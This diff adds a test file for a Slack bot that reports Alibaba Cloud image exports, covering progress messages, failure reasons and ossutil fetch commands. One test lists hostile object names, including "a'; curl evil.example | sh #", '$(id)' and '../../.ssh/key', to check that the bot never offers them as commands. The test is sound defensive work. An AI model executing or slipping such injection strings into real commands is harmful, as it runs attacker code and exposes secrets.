@@ -1,0 +1,308 @@
+import { describe, expect, it } from 'vitest';
+import type { ClockOff } from '../../../src/domain/clock-offset.ts';
+import type { ExportRequest } from '../../../src/domain/export-request.ts';
+import { directNote, threadNote } from '../../../src/slack/messages/notes.ts';
+import { textsIn } from '../../../src/slack/texts/texts-in.ts';
+import type { ClosedBecause } from '../../../src/workflow/ports/channel-closed.ts';
+import type { Note } from '../../../src/workflow/ports/messenger.ts';
+import { allRequests, aRequest, denied, people, refusal, task } from '../a-request.ts';
+import { drawn } from '../drawn.ts';
+
+const note = (kind: Note['kind']): Note => ({ kind, key: kind, version: '' });
+const ended = note('ended');
+const texts = textsIn('en');
+const reply = (of: Note, request: ExportRequest) => threadNote({ note: of, request, texts });
+const direct = (of: Note, request: ExportRequest, cardLink?: string, buckets: string[] = []) =>
+  directNote({ note: of, request, texts, cardLink, buckets });
+
+describe('a reply in the thread', () => {
+  it.each(allRequests)('of an ending calls the requester by name: %s', (_name, request) => {
+    const { text, blocks } = reply(ended, request);
+
+    expect(text.startsWith(`<@${people.lin}> `)).toBe(true);
+    expect(drawn({ blocks }).startsWith('@lin ')).toBe(true);
+  });
+
+  it('gives the id of the export task', () => {
+    expect(drawn(reply(note('started'), aRequest('exporting')))).toBe(
+      'Export started. ExportTaskId t-bp1task01. I will report here until it ends.',
+    );
+  });
+
+  it('tells a part that was not written apart from those that were, and one reason once', () => {
+    const faults = [1, 2].map(() => ({ code: 'InternalError', message: 'It broke.' }));
+    const failure = { reason: 'partly' as const, task, faults, objects: ['a_system'], lost: ['a_xvdb', 'a_xvdc'] };
+
+    const words = drawn(reply(ended, aRequest('failed', { failure })));
+
+    expect(words).toContain('Written to acme-exports: a_system. Not written: a_xvdb, a_xvdc.');
+    expect(words.match(/It broke\./g)).toHaveLength(1);
+    expect(words).not.toContain('by itself');
+  });
+
+  it('says how to fetch every object', () => {
+    const words = drawn(reply(ended, aRequest('exported', { objects: ['a_system', 'a_xvdb'] })));
+
+    expect(words).toContain('To fetch them:');
+    for (const name of ['a_system', 'a_xvdb']) expect(words).toContain(`ossutil cp 'oss://acme-exports/${name}' .`);
+  });
+
+  it.each([
+    "a'; curl evil.example | sh #",
+    'a b',
+    'a$(id)',
+    'a`id`',
+    'a\nb',
+    'ä',
+    '*',
+    '../../.ssh/key',
+    'x'.repeat(200),
+  ])('gives no command to copy for an object called %j', (name) => {
+    const words = drawn(reply(ended, aRequest('exported', { objects: [name, 'dir/a_system-1.raw'] })));
+
+    expect(words.match(/ossutil/g)).toHaveLength(1);
+    expect(words).toContain("To fetch it: ossutil cp 'oss://acme-exports/dir/a_system-1.raw' .");
+  });
+
+  it('gives the id of a task that has failed already', () => {
+    const failure = { reason: 'task-failed' as const, task, faults: [] };
+
+    expect(drawn(reply(note('started'), aRequest('failed', { failure })))).toContain('ExportTaskId t-bp1task01');
+  });
+
+  it.each([
+    [0, '░░░░░░░░░░ 0 %'],
+    [48, '▓▓▓▓▓░░░░░ 48 %'],
+    [99.6, '▓▓▓▓▓▓▓▓▓▓ 100 %'],
+    [undefined, '░░░░░░░░░░ 0 %'],
+  ])('draws a progress of %s', (percent, bar) => {
+    const request = aRequest('exporting', { task: { ...task, ...(percent !== undefined && { percent }) } });
+
+    expect(drawn(reply(note('progress'), request))).toBe(`Exporting ${bar}`);
+  });
+
+  const atMinute = (minutes: number, percent: number) => ({
+    ...task,
+    percent,
+    seenAt: task.startedAt + minutes * 60_000,
+  });
+
+  it.each([
+    ['the first minute', atMinute(0.9, 12), 'Exporting ▓░░░░░░░░░ 12 %'],
+    ['too little to tell', atMinute(21, 4), 'Exporting ░░░░░░░░░░ 4 % · 21 min so far'],
+    ['the middle', atMinute(21, 48), 'Exporting ▓▓▓▓▓░░░░░ 48 % · 21 min so far · about 23 min left'],
+    ['hours', atMinute(150, 60), 'Exporting ▓▓▓▓▓▓░░░░ 60 % · 2 h 30 min so far · about 1 h 40 min left'],
+    ['the last moment', atMinute(43, 100), 'Exporting ▓▓▓▓▓▓▓▓▓▓ 100 % · 43 min so far'],
+  ])('tells how long it took, and about how long it takes still: %s', (_when, at, line) => {
+    expect(drawn(reply(note('progress'), aRequest('exporting', { task: at })))).toBe(line);
+  });
+
+  it('promises no more time while there is no progress, and says how long it runs', () => {
+    const still = { ...note('progress'), stillAt: task.startedAt + 5 * 3_600_000 };
+
+    expect(drawn(reply(still, aRequest('exporting', { task: atMinute(21, 48) })))).toBe(
+      'Exporting ▓▓▓▓▓░░░░░ 48 % · 5 h so far',
+    );
+  });
+
+  it('promises no more time once the export has ended', () => {
+    const ended = [
+      aRequest('exported', { task: atMinute(43, 95) }),
+      aRequest('cancelled', { task: atMinute(21, 48) }),
+      aRequest('failed', { failure: { reason: 'vanished', task: atMinute(21, 48) } }),
+    ];
+
+    expect(ended.map((request) => drawn(reply(note('progress'), request)))).toEqual([
+      'Exporting ▓▓▓▓▓▓▓▓▓▓ 100 %',
+      'Ended at ▓▓▓▓▓░░░░░ 48 %',
+      'Ended at ▓▓▓▓▓░░░░░ 48 %',
+    ]);
+  });
+
+  it('says what to look at when an export runs for unusually long', () => {
+    const overdue = { ...task, overdueAt: task.startedAt + 25 * 3_600_000 };
+
+    const words = drawn(reply(note('overdue'), aRequest('exporting', { task: overdue })));
+
+    expect(words).toContain('No end to be seen after 25 h');
+    expect(words).toContain(`the task ${task.id} in the ECS console`);
+  });
+
+  it('says why nothing is posted, who can fix it, and what becomes of the request', () => {
+    const told = (because: ClosedBecause, request: ExportRequest) =>
+      drawn(reply({ ...note('channel-lost'), because }, request));
+
+    expect(told('archived', aRequest('pending'))).toMatch(/it is archived\. Who can fix it: .*nobody can decide/);
+    expect(told('not-in-channel', aRequest('exporting'))).toMatch(/I am not in it.*\/invite.*I will write to you here/);
+  });
+
+  it('of a refusal says that nothing was written only where no call was left open', () => {
+    const failed = aRequest('failed', { failure: { reason: 'refused', refusal } });
+    const certain = { ...failed, retryFrom: { calls: 1, tries: 0, runId: 'run-1' } };
+
+    expect(drawn(reply(ended, certain))).toContain('Nothing was written.');
+    expect(drawn(reply(ended, failed))).toContain('An earlier call may have gone unanswered.');
+    expect(drawn(reply(ended, failed))).not.toContain('Nothing was written.');
+  });
+
+  it('does not say that nobody was asked where somebody has approved', () => {
+    const failure = { reason: 'requester-may-not-ask', because: 'not-a-member' } as const;
+    const before = aRequest('failed', { failure, approval: undefined });
+
+    expect(drawn(reply(ended, before))).toContain('Nobody was asked.');
+    expect(drawn(reply(ended, aRequest('failed', { failure })))).not.toContain('Nobody was asked.');
+  });
+
+  it.each([
+    ['Too late to cancel: it had just finished.', { at: -30_000 }],
+    ['could not be stopped before it finished.', { at: -3_600_000 }],
+    ['Alibaba Cloud had agreed to stop it, but it finished all the same.', { at: -30_000, acceptedAt: -20_000 }],
+  ])('says why a wish to cancel came to nothing: %s', (words, ago) => {
+    const exported = aRequest('exported');
+    const times = Object.fromEntries(Object.entries(ago).map(([name, ms]) => [name, exported.endedAt + ms]));
+    const wish = { by: exported.requester, at: 0, ...times };
+
+    expect(drawn(reply(ended, { ...exported, cancelWanted: wish }))).toContain(words);
+  });
+
+  it('names the objects and how to fetch the first', () => {
+    const objects = ['a', 'b', 'c', 'd', 'e', 'f', 'g'].map((disk) => `dr7k2_${disk}.raw.tar.gz`);
+
+    const words = drawn(reply(ended, aRequest('exported', { objects })));
+
+    expect(words).toContain('dr7k2_e.raw.tar.gz and 2 more in acme-exports (raw).');
+    expect(words).not.toContain('dr7k2_f');
+    expect(words).toContain("ossutil cp 'oss://acme-exports/dr7k2_a.raw.tar.gz' .");
+  });
+
+  it('repeats at most three reasons of a task with many disks', () => {
+    const faults = Array.from({ length: 16 }, (_, disk) => ({ code: `Disk.Fault${disk}`, message: 'It broke.' }));
+
+    const words = drawn(reply(ended, aRequest('failed', { failure: { reason: 'task-failed', task, faults } })));
+
+    expect(words.match(/· Disk\.Fault\d/g)).toEqual(['· Disk.Fault0', '· Disk.Fault1', '· Disk.Fault2']);
+  });
+
+  it.each([
+    ['lost-answer', 'I lost the answer of Alibaba Cloud. The export may be running.'],
+    ['redis-restarted', 'Redis was restarted or failed over since this was asked'],
+  ] as const)('says why it is unsure: %s', (cause, words) => {
+    const request = aRequest('starting', { doubt: { cause } });
+
+    expect(drawn(reply(note('unsure'), request))).toContain(words);
+    expect(drawn(reply(note('unsure'), request))).toContain('will not start it again before I know');
+  });
+
+  it.each(['busy', 'image-exporting', 'image-claimed', 'task-unclear', 'quota', 'bucket-unproven'] as const)(
+    'says until when it tries again by itself: %s',
+    (reason) => {
+      const request = aRequest('waiting', { waiting: { ...aRequest('waiting').waiting, reason, refusal } });
+
+      const words = drawn(reply(note('waiting'), request));
+
+      expect(words).toMatch(/^Waiting\. .+ I try again by myself until 2026-11-25 10:42 UTC\./);
+      expect(words).toContain('Who can fix it: an Alibaba Cloud administrator');
+    },
+  );
+});
+
+describe('a wait for a clock', () => {
+  const on = (clockOff: ClockOff) =>
+    aRequest('waiting', { waiting: { ...aRequest('waiting').waiting, reason: 'clock-off', clockOff } });
+
+  it.each([
+    [{ clock: 'bot', ahead: 480_000 } as const, "The bot's clock is 8 min ahead of Alibaba Cloud's."],
+    [{ clock: 'bot', ahead: -95_000 } as const, "The bot's clock is 2 min behind Alibaba Cloud's."],
+    [{ clock: 'redis', ahead: 480_000 } as const, "The clock of Redis is 8 min ahead of the bot's."],
+  ])('says how far it is off and who can fix it: %j', (clockOff, words) => {
+    const said = drawn(reply(note('waiting'), on(clockOff)));
+
+    expect(said).toMatch(/^Waiting\. A clock is off, .+ I try again by myself until .+ Nothing has started\./);
+    expect(said).toContain(`${words} Who can fix it: the bot's operator.`);
+    expect(said).not.toContain('nothing to do');
+  });
+});
+
+describe('a direct message', () => {
+  it('tells which request it is about, and leads to its card', () => {
+    const link = 'https://acme.slack.com/archives/C1/p1?a=1&b=2';
+
+    const { text, blocks } = direct(ended, aRequest('denied'), link);
+
+    expect(text).toContain('(7k2m4x)');
+    expect(drawn({ blocks })).toContain('· m-bp1acmeweb01 · 7k2m4x · Open the card');
+    expect(JSON.stringify(blocks)).toContain('<https://acme.slack.com/archives/C1/p1?a=1&amp;b=2|Open the card>');
+  });
+
+  it('does without a link where there is no card', () => {
+    expect(drawn(direct(ended, aRequest('denied')))).not.toContain('Open the card');
+  });
+
+  it('quotes why somebody has denied', () => {
+    expect(drawn(direct(ended, aRequest('denied')))).toContain('@ana wrote:\n│ use the staging image');
+  });
+});
+
+describe('who can fix it', () => {
+  const prefix = { ...refusal, code: 'InvalidOSSPrefix.Malformed' };
+  const request = aRequest('failed', { failure: { reason: 'refused', refusal: prefix } });
+
+  it('is "you" to the requester, and a person to the channel', () => {
+    expect(drawn(direct(ended, request))).toContain('Who can fix it: you');
+    expect(direct(ended, request).text).toContain('Who can fix it: you.');
+    expect(drawn(reply(ended, request))).toContain('Who can fix it: whoever asked');
+  });
+});
+
+describe('a missing permission', () => {
+  const request = aRequest('failed', { failure: { reason: 'refused', refusal: denied } });
+
+  it('is named to all, its policy shown to the requester and offered to the channel', () => {
+    const [inThread, alone] = [reply(ended, request), direct(ended, request)];
+
+    for (const words of [inThread, alone]) expect(words.text).toContain('(ecs:ExportImage)');
+    expect(JSON.stringify(inThread)).not.toContain('Statement');
+    expect(drawn(inThread)).toContain('[Show the policy]');
+    expect(drawn(alone)).toContain('"Resource": "acs:ecs:*:*:image/*"');
+  });
+});
+
+describe('buckets that would fit', () => {
+  it('are named in the text too, and counted where they are many', () => {
+    const failure = { reason: 'bucket-elsewhere' as const, regionId: 'cn-beijing' };
+    const buckets = Array.from({ length: 7 }, (_, index) => `acme-${index}`);
+
+    const words = direct(ended, aRequest('failed', { failure }), undefined, buckets);
+
+    for (const text of [words.text.replaceAll('`', ''), drawn(words)]) {
+      expect(text).toContain(
+        'Buckets of this account in cn-hangzhou: acme-0, acme-1, acme-2, acme-3, acme-4 and 2 more.',
+      );
+    }
+  });
+});
+
+describe('a wait', () => {
+  const waitFor = (code: string) =>
+    aRequest('waiting', { waiting: { ...aRequest('waiting').waiting, reason: 'busy', refusal: { ...refusal, code } } });
+
+  it('says what Alibaba Cloud means, and that there is nothing to do only where that is so', () => {
+    const throttled = drawn(reply(note('waiting'), waitFor('Throttling.User')));
+    const keyless = drawn(reply(note('waiting'), waitFor('Bot.NoAccessKey')));
+
+    expect(throttled).toContain(
+      "The bot's RAM user is calling Alibaba Cloud too often at the moment. There is nothing to do.",
+    );
+    expect(keyless).toContain('The bot has no access key, so nothing was sent.');
+    expect(keyless).not.toContain('nothing to do');
+  });
+
+  it('claims that nothing has started only while no call is open', () => {
+    const { waiting } = waitFor('Throttling.User');
+    const open = aRequest('waiting', { waiting: { ...waiting, openSince: waiting.since } });
+
+    expect(drawn(reply(note('waiting'), waitFor('Throttling.User')))).toContain('Nothing has started.');
+    expect(drawn(reply(note('waiting'), open))).toContain('I look for its export before each try.');
+    expect(drawn(reply(note('waiting'), open))).not.toContain('Nothing has started.');
+  });
+});
